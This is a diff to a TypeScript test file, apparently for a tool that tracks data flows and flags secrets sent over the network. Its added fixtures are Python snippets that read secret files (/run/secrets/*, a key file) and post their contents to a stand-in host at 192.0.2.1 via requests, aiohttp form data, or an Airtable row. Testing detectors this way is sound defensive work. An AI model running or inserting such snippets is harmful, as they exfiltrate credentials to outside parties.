@@ -118,6 +118,16 @@ const FLOWS: readonly [situation: string, code: string, flow: string][] = [
     `import glob, requests\nrequests.post("http://192.0.2.1", data=str([open(p).read() for p in glob.glob("/run/secrets/*")]))`,
     'secret-file > network',
   ],
+  [
+    'a field of a form',
+    `import aiohttp, os\nasync def go(d):\n    f = aiohttp.FormData()\n    f.add_field("f", d)\n    async with aiohttp.ClientSession() as s:\n        await s.post("http://192.0.2.1", data=f)\nimport asyncio\nasyncio.run(go(open(${KEY}).read()))`,
+    'secret-file > network',
+  ],
+  [
+    'a row of a hosted table',
+    `import os\nfrom pyairtable import Api\nApi("k").table("a", "t").create({"d": open(${KEY}).read()})`,
+    'secret-file > network',
+  ],
 ]
 
 t.test('ways out and ways in are followed, and worth a syntax tree', async (t) => {
